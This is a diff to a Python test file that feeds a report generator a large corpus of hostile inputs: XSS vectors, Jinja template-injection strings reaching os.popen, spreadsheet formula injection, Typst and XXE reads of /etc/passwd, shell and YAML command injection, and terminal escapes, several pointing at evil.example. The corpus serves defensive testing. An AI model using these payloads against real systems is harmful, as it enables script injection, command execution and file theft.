@@ -9,6 +9,7 @@ from pathlib import Path
 import openpyxl
 import yaml
 
+from reportkit.visible import unseen_in
 from tests.conftest import EXAMPLE, YEAR, copy_workspace
 from tests.ledgers.samples import write_csv
 from tests.windows import AS_ON_WINDOWS
@@ -52,6 +53,85 @@ HTML = (
     "<a href='data:text/html,<script>opener.ran()</script>'>〇</a>",
     "<a href='//evil.example/〇' ping='https://evil.example/〇'>〇</a>",
     "<a href='file:///etc/passwd'>〇</a>",
+    "<svg/onload=ran()>〇",
+    "<img src=x:x onerror=ran()//〇",
+    "<img/src='x'/onerror=ran()>〇",
+    "<img src=x\nonerror\n=ran()>〇",
+    "<img src=`x` onerror=ran()>〇",
+    "<<script>ran()//<</script>〇",
+    "<script\x0c>ran()</script>〇",
+    "<script/〇>ran()</script/>〇",
+    "<scrİpt>ran()</scrİpt>〇",
+    "＜script＞ran()＜/script＞〇",
+    "<plaintext>〇",
+    "<xmp>〇",
+    "<listing>〇",
+    "<textarea>〇",
+    "<select><option>〇",
+    "<title>〇",
+    "<noembed><img src=x onerror=ran()></noembed>〇",
+    "<noframes>〇</noframes>〇",
+    "<frameset onload=ran()><frame src=https://evil.example/〇></frameset>〇",
+    "<iframe src='https://evil.example/〇'></iframe>〇",
+    "<iframe srcdoc='&lt;script&gt;parent.ran()&lt;/script&gt;' sandbox>〇</iframe>",
+    "<portal src='https://evil.example/〇'></portal>〇",
+    "<fencedframe src='https://evil.example/〇'></fencedframe>〇",
+    "<dialog open>〇<form method=dialog><button>〇</button></form></dialog>",
+    "<dialog>〇</dialog>",
+    "<p popover id=p>〇</p><button popovertarget=p>〇</button>",
+    "<details><summary>标题</summary>〇</details>",
+    "<slot name=x>〇</slot>",
+    "<custom-element onclick=ran()>〇</custom-element>",
+    "<div><template shadowrootmode=open><script>ran()</script></template>〇</div>",
+    "<a href='jAvAsCrIpT:ran()'>〇</a>",
+    "<a href='&#106;avascript:ran()'>〇</a>",
+    "<a href='javascript&colon;ran()'>〇</a>",
+    "<a href='vbscript:ran()'>〇</a>",
+    "<a href='blob:https://evil.example/〇'>〇</a>",
+    "<a href='\\\\evil.example\\〇'>〇</a>",
+    "<a href='../../../../etc/passwd'>〇</a>",
+    "<a href='https://evil.example/〇' target=_top download>〇</a>",
+    "<a href='https://evil.example/〇' style='position:fixed;inset:0'>〇</a>",
+    "<area href=javascript:ran()>〇",
+    "<map name=m><area shape=default href='https://evil.example/〇'></map><img usemap='#m'>〇",
+    "<audio autoplay src=https://evil.example/〇.mp3></audio>〇",
+    "<video poster=https://evil.example/〇.png></video>〇",
+    "<picture><source srcset=https://evil.example/〇.webp><img src=data:,></picture>〇",
+    "<input type=image src=https://evil.example/〇.png>〇",
+    "<input type=hidden value=〇>〇",
+    "<body background=https://evil.example/〇.png>〇",
+    "<table background=https://evil.example/〇.png><tr><td>〇</td></tr></table>",
+    "<link rel=prefetch href=https://evil.example/〇>〇",
+    "<link rel=dns-prefetch href=//evil.example>〇",
+    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">〇",
+    "<meta name=referrer content=unsafe-url>〇",
+    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/〇\"]}]}</script>〇",
+    "<script type=module>import 'https://evil.example/〇.js'</script>〇",
+    "<script type=application/json>{\"a\":\"〇\"}</script>〇",
+    "<style onload=ran()></style>〇",
+    "<object type=text/x-scriptlet data=https://evil.example/〇></object>〇",
+    "<applet code=〇></applet>〇",
+    "<bgsound src=https://evil.example/〇.mid>〇",
+    "<isindex action=javascript:ran() type=image>〇",
+    "<keygen autofocus onfocus=ran()>〇",
+    "<base target=_blank>〇",
+    "<?xml-stylesheet href='https://evil.example/〇.xsl'?>〇",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>〇",
+    "<![CDATA[<script>ran()</script>]]>〇",
+    "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;〇",
+    "&nbsp;&lrm;&rlm;&#8238;〇",
+    "&#x1b;[2J&#0;〇",
+    "<p id=report onclick=ran()>〇</p>",
+    "<p id=__proto__ name=constructor>〇</p>",
+    "<p contenteditable autofocus onfocus=ran()>〇</p>",
+    "<p tabindex=1 accesskey=x>〇</p>",
+    "<p lang=x dir=rtl>〇</p>",
+    "<bdo dir=rtl>〇</bdo>",
+    "<ruby>〇<rt>〇</rt></ruby>",
+    "<font size=1 color=white>〇</font>",
+    "<blink>〇</blink>",
+    "<q cite=https://evil.example/〇>〇</q>",
+    "<del cite=javascript:ran()>〇</del>",
 )  # fmt: skip
 SCRIPT = (
     "'-ran()-'〇",
@@ -59,6 +139,15 @@ SCRIPT = (
     "`${ran()}`〇",
     "</script><script>ran()</script>〇",
     "\\u003cscript\\u003eran()〇",
+    "javascript:ran()//〇",
+    '\\"};ran();{\\"〇',
+    "</ScRiPt ><ScRiPt >ran()</ScRiPt >〇",
+    "\u2028ran()\u2029〇",
+    "*/ran()/*〇",
+    "<!--<script>〇",
+    "__proto__〇",
+    "constructor.constructor('ran()')()〇",
+    '{"application/javascript": "ran()"}〇',
 )
 CSS = (
     "<style>*{display:none}</style>〇",
@@ -71,6 +160,21 @@ CSS = (
     "<span style='color:#fff'>〇</span>",
     "<span style='opacity:0;visibility:hidden'>〇</span>",
     "<p class='watermark official draft'>〇</p>",
+    "<p style='text-indent:-9999px'>〇</p>",
+    "<p style='transform:scale(0)'>〇</p>",
+    "<p style='clip-path:inset(100%)'>〇</p>",
+    "<p style='width:0;height:0;overflow:hidden'>〇</p>",
+    "<p style='filter:opacity(0)'>〇</p>",
+    "<p style='margin-left:-99em'>〇</p>",
+    "<p style='line-height:0;color:transparent'>〇</p>",
+    "<p style='text-align:center;behavior:url(https://evil.example/〇.htc)'>〇</p>",
+    "<p style='-moz-binding:url(https://evil.example/〇.xml)'>〇</p>",
+    "<p style='width:expression(ran())'>〇</p>",
+    "<p style='content:\"〇\"'>〇</p>",
+    "<p style='color:var(--x);--x:url(https://evil.example/〇)'>〇</p>",
+    "</style><style>.draft,.watermark{display:none}</style>〇",
+    "<p class='working told-apart numbers screen'>〇</p>",
+    "}*{display:none}/*〇",
 )
 SVG = (
     "<svg onload=ran()><text y=9>〇</text></svg>",
@@ -80,6 +184,20 @@ SVG = (
     "<svg><use href='https://evil.example/〇.svg#a'/></svg>〇",
     "<svg><foreignObject><body onload=ran()>〇</body></foreignObject></svg>",
     "<svg><image href='https://evil.example/〇.png'/></svg>〇",
+    "<svg><style>*{display:none}</style><text y=9>〇</text></svg>",
+    "<svg><style>@import 'https://evil.example/〇.css'</style></svg>〇",
+    "<svg><set attributeName=href to=javascript:ran()><text y=9>〇</text></svg>",
+    "<svg><filter id=f><feImage href='https://evil.example/〇.png'/></filter></svg>〇",
+    "<svg><text y=9 fill=none>〇</text></svg>",
+    "<svg><text y=9 fill-opacity=0>〇</text></svg>",
+    "<svg><desc><script>ran()</script></desc></svg>〇",
+    "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:ran()'>〇</a></svg>",
+    "<svg><p>〇</p></svg>",
+    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>\">〇",
+    "<math href='javascript:ran()'><mi>〇</mi></math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:ran()><mi>〇</mi></maction></math>",
+    "<math><annotation-xml encoding='text/html'><script>ran()</script></annotation-xml></math>〇",
+    "<math><mstyle mathcolor=white mathsize=0><mi>〇</mi></mstyle></math>",
 )
 TYPST = (
     "#read(\"/etc/passwd\")〇",
@@ -87,6 +205,20 @@ TYPST = (
     "#hide[〇] $x$ @label <label> \\",
     "\"]) #pdf.attach(\"/etc/passwd\")〇",
     "#import \"@preview/cetz:0.3.0\"〇",
+    "#eval(\"1\")〇",
+    "#sys.inputs〇",
+    "#show: none\n〇",
+    "#set text(fill: white)\n〇",
+    "#place(hide[〇])",
+    "*〇* _〇_ `〇` $〇$ = 〇",
+    "// 〇",
+    "/* 〇",
+    "\\u{202e}〇 ~ --- -? @〇 <〇>",
+    "]]]}}})))〇",
+    "\\\"; #panic(\"〇\")",
+    "#while true {}〇",
+    "#image(\"/etc/passwd\")〇",
+    "#plugin(\"https://evil.example/〇.wasm\")",
 )  # fmt: skip
 MARKDOWN = (
     "[〇](javascript:ran())",
@@ -94,12 +226,38 @@ MARKDOWN = (
     "[〇]: javascript:ran()",
     "```{=html}\n<script>ran()</script>〇\n```",
     "$$\\href{javascript:ran()}{〇}$$",
+    "<javascript:ran()>〇",
+    "[〇](data:text/html,<script>ran()</script>)",
+    "[〇](https://evil.example/〇 \"' onmouseover='ran()\")",
+    '![〇" onerror="ran()](data:image/png;base64,x)',
+    "![〇](attachment:../../../etc/passwd)",
+    "[〇][x]\n\n[x]: javascript:ran()",
+    "`<script>ran()</script>`〇",
+    "    <script>ran()</script>〇",
+    "```html\n<script>ran()</script>\n〇\n```",
+    "| 〇 | <script>ran()</script> |\n|---|---|\n| 〇 | 1 |",
+    "# <script>ran()</script>〇",
+    "> <img src=x onerror=ran()>〇",
+    "1. <img src=x onerror=ran()>〇",
+    "\\(\\unicode{x202e}〇\\)",
+    "$\\require{html}\\href{javascript:ran()}{〇}$",
+    "~~〇~~ ==〇== ^〇^",
+    "[^〇]: <script>ran()</script>",
+    "<div markdown=1>**〇**</div>",
 )
 JINJA = (
     "{{ 7 * 7 }}〇",
     "{{ ''.__class__.__mro__ }}〇",
     "{% for x in [1] %}〇{% endfor %}",
     "{# 〇 #}〇",
+    "{{ config }}〇",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}〇",
+    "{%- raw -%}〇{%- endraw -%}",
+    "{% include '/etc/passwd' %}〇",
+    "{{ '〇'|safe }}",
+    "{{ [].__class__.__base__.__subclasses__() }}〇",
+    "{{〇",
+    "〇}}",
 )
 FORMULAS = (
     "=HYPERLINK(\"https://evil.example/〇\",\"〇\")",
@@ -108,6 +266,16 @@ FORMULAS = (
     "+1-1〇",
     "-2+3+cmd|' /C calc'!A0〇",
     "\t=1+1〇",
+    "=IMPORTXML(\"https://evil.example/〇\",\"//a\")",
+    "=WEBSERVICE(\"https://evil.example/〇\")",
+    "=INDIRECT(\"A1\")〇",
+    "{=SUM(1)}〇",
+    "＝HYPERLINK(\"https://evil.example/〇\")",
+    "'=1+1〇",
+    "|calc!A0〇",
+    "#REF!〇",
+    "\n=1+1〇",
+    ";=1+1;〇",
 )  # fmt: skip
 CHARACTERS = (
     "\u202e〇\u202c 100",
@@ -117,6 +285,36 @@ CHARACTERS = (
     "〇\u0000b",
     "\x1b]0;〇\x07\x1b[2J\x1b[31m〇",
     "\x9b31m〇\r\n::error::〇",
+    "\u061c〇\u200e\u200f",
+    "〇\u2028〇\u2029〇",
+    "\ufff9〇\ufffa〇\ufffb",
+    "〇\ufffe\uffff",
+    "〇\x7f\x85\x9d",
+    "\x1b]8;;https://evil.example/〇\x1b\\〇\x1b]8;;\x1b\\",
+    "\x1b[?1049h\x1b[8m〇",
+    "\x1bP+q〇\x1b\\",
+    "〇\b\b\b\b\b100",
+    "〇\r100",
+    "〇\x0b\x0c\x1c\x1d\x1e\x1f",
+    "〇" + "\u0301" * 500,
+    "\u0301〇\u20dd\u20e0",
+    "〇\u3164\uffa0\u115f\u1160\u17b4",
+    "〇\u00ad\u034f\u180e",
+    "〇\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "𰻝𪚥〇",
+    "ﷺ" * 50 + "〇",
+    "〇" + "é" * 5000,
+    "〇" + "W" * 20_000,
+    "〇" + "汉" * 5000,
+    "〇" + "1" * 5000,
+    "ſcript〇 K ﬁ",
+    "〇%s%s%n%x{0}{}${jndi:ldap://evil.example/〇}",
+    "$(id)`id`|id;id&&id>〇",
+    "..\\..\\〇/../../〇",
+    "con.〇",
+    "-rf --〇",
+    "~〇*?[〇]",
+    "true〇: !!python/object/apply:os.system [id]",
 )
 KINDS = (HTML, SCRIPT, CSS, SVG, TYPST, MARKDOWN, JINJA, FORMULAS, CHARACTERS)
 MARKS = [f"记{number:03d}号" for number, _ in enumerate(text for kind in KINDS for text in kind)]
@@ -124,7 +322,8 @@ ALL = [
     text.replace("〇", mark)
     for text, mark in zip((text for kind in KINDS for text in kind), MARKS, strict=True)
 ]
-NO_PROSE = {*JINJA}  # in a narrative they are its own language
+# In a narrative they are its own language, and headings of no section.
+NO_PROSE = {*JINJA, *(text for text in MARKDOWN if text.startswith("#"))}
 ADDRESS = "evil.example"
 LONGEST_NAME = 200  # characters that the name of a bureau may have
 
@@ -133,7 +332,7 @@ def _short_of(lines: list[str]) -> str:
     """Return a name as long as one may be, of the shortest of the lines of each kind."""
     name = "局"
     for line in sorted(_one_line(lines), key=len):
-        if line.isprintable() and len(name) + len(line) <= LONGEST_NAME:
+        if not unseen_in(line) and len(name) + len(line) <= LONGEST_NAME:
             name += line
     return name
 
@@ -158,7 +357,7 @@ def hostile_workspace(folder: Path) -> Path:
     ]
     narrative = (data / "narrative.md").read_text("utf-8")
     heading = narrative.index("# 五、")
-    said = "\n\n".join(prose).replace("{", "｛")
+    said = "\n\n".join(prose).translate(str.maketrans("{}", "（）"))
     (data / "narrative.md").write_text(
         f"{narrative[:heading]}{said}\n\n{narrative[heading:]}", "utf-8"
     )
@@ -190,7 +389,8 @@ def _ledgers(data: Path) -> None:
         data / "cases.csv", [head, ["1", "行政复议", "2022-01-04", "2022-02-04", "维持", *texts]]
     )
     for text in ALL:
-        name = text.replace("\0", "").replace("/", "／")[:60]
+        # One of these words would make of it a table of figures.
+        name = re.sub("summary|汇总", "", text.replace("\0", "").replace("/", "／"))[:60]
         if AS_ON_WINDOWS:
             name = re.sub(r'[<>:"|?*\\\x01-\x1f]', "＿", name)
         write_csv(data / f"{name}.csv", [["登记编号", "x"], ["1", "2"]])
